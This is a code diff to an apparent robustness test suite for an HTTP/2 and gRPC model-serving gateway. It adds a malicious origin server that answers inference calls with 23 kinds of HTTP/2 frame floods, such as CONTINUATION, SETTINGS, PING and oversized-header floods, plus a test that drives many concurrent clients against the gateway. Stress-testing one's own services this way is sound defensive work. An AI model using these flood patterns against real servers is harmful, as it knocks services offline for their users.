@@ -8,7 +8,9 @@ import struct
 import time
 
 import harness
-from peer import JSON, Raw, more_descriptors, post
+from h2_peer import long_field
+from peer import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, JSON, Raw, data, field, frame, grpc_message,
+                  more_descriptors, ping, post, priority, rst, settings, window)
 from registry import attack
 
 INPUTS = json.dumps({'inputs': [{'name': 'x', 'datatype': 'FP32', 'shape': [4], 'data': [1, 2, 3, 4]}]}).encode()
@@ -139,3 +141,58 @@ def talkative_origin(target):
     if not statuses:
         target.broke('no answer came')
     return f'answers by status: {statuses}'
+
+
+HEAD, GOAWAY = field(8, '200'), 7  # a head as :status alone
+
+
+class FloodingOrigin:
+    """A gRPC server that answers ModelInfer with a flood of frames, each request with another kind, for as long as its peer
+    takes them."""
+
+    def __init__(self):
+        import forward_origin
+        self.head = forward_origin.block(*forward_origin.OK_HEAD)
+        self.origin, self.turns = forward_origin.Origin(), itertools.count()
+        self.origin.behave = self._behave
+
+    def _behave(self, connection, stream, request):
+        kinds = self.floods(stream)
+        begin, again = kinds[next(self.turns) % len(kinds)]
+        connection.sock.settimeout(2)
+        connection.sock.sendall(begin)
+        for _ in range(64):
+            connection.sock.sendall(again * max(1, (1 << 18) // len(again)))
+
+    def floods(self, stream):
+        begun = frame(HEADERS, END_HEADERS, stream, self.head)
+        entry = HEAD + b'\x40\x01x' + long_field('x', 3900)[3:]  # a field of the dynamic table
+        ended = frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD)
+        return (
+            (b'', ping()), (b'', settings()), (b'', b''.join(settings((INITIAL_WINDOW_SIZE, n)) for n in range(60_000, 60_099))),
+            (b'', window(0, 1)), (b'', window(stream, 1)), (b'', priority(stream, 0)), (b'', rst(stream)),
+            (b'', frame(GOAWAY, 0, 0, bytes(8))), (b'', frame(0xfa, 0, 0, bytes(8))), (b'', settings((1, 0), (1, 4096))),
+            (b'', frame(HEADERS, END_HEADERS, stream, field(':status', '103'))),
+            (frame(HEADERS, 0, stream, HEAD), frame(CONTINUATION, 0, stream, b'')),
+            (frame(HEADERS, 0, stream, HEAD), frame(CONTINUATION, 0, stream, long_field('x', 16_000))),
+            (frame(HEADERS, END_HEADERS, stream, entry), frame(HEADERS, END_HEADERS | END_STREAM, stream, b'\xbe' * 16_384)),
+            (ended, frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD + b'\xbe' * 16_000)), (ended, data(stream, bytes(16_384), end=False)),
+            (begun, frame(DATA, 0, stream)), (begun, frame(DATA, 8, stream, b'\xff' + bytes(255))), (begun, data(stream, bytes(16_384), end=False)),
+            (begun, data(stream, grpc_message(b'') * 3000, end=False)), (begun, data(stream, struct.pack('>BI', 0, 1 << 30), end=False)),
+            (begun, frame(HEADERS, END_HEADERS, stream, HEAD)), (begun, bytes(range(256))),
+        )
+
+
+@attack(seconds=30, quick=6, repository=lambda: beside_the_demos('flooding', FloodingOrigin().origin.port))
+def flooding_origin(target):
+    """A gateway's clients whose origin answers with floods of HTTP/2's frames, 23 kinds of them: those of other models are served."""
+    more_descriptors()
+    wanted, peers, begun, statuses = target.size(60, 25), [], 0, {}
+    request = post('/v2/models/flooding/infer', INPUTS, JSON)
+    while not target.over():
+        peers = [peer for peer in peers if not ended(target, peer, statuses)]
+        for _ in range(wanted - len(peers)):
+            peers.append(Raw(target, wait=3).send(request))
+            begun += 1
+        time.sleep(0.02)
+    return f'{begun} asked, answers by status: {statuses}'
